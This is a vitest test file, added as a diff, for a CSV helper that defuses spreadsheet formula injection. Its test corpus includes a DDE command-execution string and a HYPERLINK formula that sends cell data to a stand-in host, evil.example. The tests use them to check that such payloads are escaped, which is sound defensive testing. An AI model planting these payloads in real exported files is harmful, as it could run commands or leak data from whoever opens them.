@@ -1,0 +1,76 @@
+import { parse } from 'csv-parse/sync';
+import { stringify } from 'csv-stringify/sync';
+import * as fc from 'fast-check';
+import { describe, expect, test } from 'vitest';
+import { textCell } from '../../src/report/csv.ts';
+
+const OPERATORS = ['=', '+', '-', '@', '＝', '＋', '－', '＠'];
+const SPACES = ['', ' ', '   ', '\u00a0', '\u3000'];
+const BODIES = ["cmd|' /C calc'!A0", 'HYPERLINK("http://evil.example/?"&A1,"click")', '1+1', 'abc'];
+const CORPUS = [
+  ...OPERATORS.flatMap((operator) => SPACES.map((space) => `${space}${operator}${BODIES[0] ?? ''}`)),
+  ...OPERATORS.flatMap((operator) => BODIES.map((body) => operator + body)),
+  '\t=1+1',
+  '\r=1+1',
+  '\n=1+1',
+  '\0=1+1',
+  '\tplain',
+  '\rplain',
+  ' \t=1',
+  '=',
+  '-abc',
+];
+
+function cellsOf(line: string): string[] {
+  return parse(`${line}\n`)[0] ?? [];
+}
+
+describe('a cell that a spreadsheet would run', () => {
+  test.each(CORPUS)('is shown as text: %j', (text) => {
+    const [cell] = cellsOf(textCell(text));
+    expect(cell).toMatch(/^'/);
+    expect(textCell(text)).not.toMatch(/\p{Cc}/u);
+  });
+
+  test('is also one that only looks like an ID', () => {
+    expect(textCell('-abc')).toBe("'-abc");
+    expect(textCell('_abc')).toBe('_abc');
+  });
+});
+
+test('texts that no spreadsheet runs stay as they are', () => {
+  for (const text of ['', 'abc', "'quoted'", 'a=b', 'a - b', '1', 'ticket +1', 'Müller', '東京', '👍']) {
+    expect(textCell(text)).toBe(text);
+  }
+});
+
+test('control, bidi and zero-width characters become visible', () => {
+  expect(textCell('a\u001b[2Jb\u202ec\u200bd')).toBe('a<U+001B>[2Jb<U+202E>c<U+200B>d');
+  expect(textCell('two\nlines')).toBe('two<U+000A>lines');
+});
+
+test('a long text is never cut', () => {
+  expect(textCell('é'.repeat(5000))).toHaveLength(5000);
+});
+
+test('quoting is that of csv-stringify, for any text', () => {
+  const text = fc.string({ unit: fc.constantFrom('a', ' ', '"', ',', ';', '\n', '\t', '=', 'é') });
+  fc.assert(
+    fc.property(fc.array(text, { minLength: 2, maxLength: 5 }), (texts) => {
+      const cells = texts.map((value) => textCell(value));
+      const bare = cells.map((cell) => cellsOf(`${cell},x`)[0] ?? '');
+      expect(`${cells.join(',')}\n`).toBe(stringify([bare]));
+    }),
+  );
+});
+
+test('no text whatsoever breaks a line or leaves its cell', () => {
+  fc.assert(
+    fc.property(fc.string({ unit: 'binary' }), (text) => {
+      const cells = cellsOf(`a,${textCell(text)},z`);
+      expect(cells).toHaveLength(3);
+      expect(cells[1]).not.toMatch(/^\s*[=+\-@＝＋－＠]/);
+      expect(cells[1]).not.toMatch(/[\p{Cc}\p{Cs}\p{Cf}]/u);
+    }),
+  );
+});
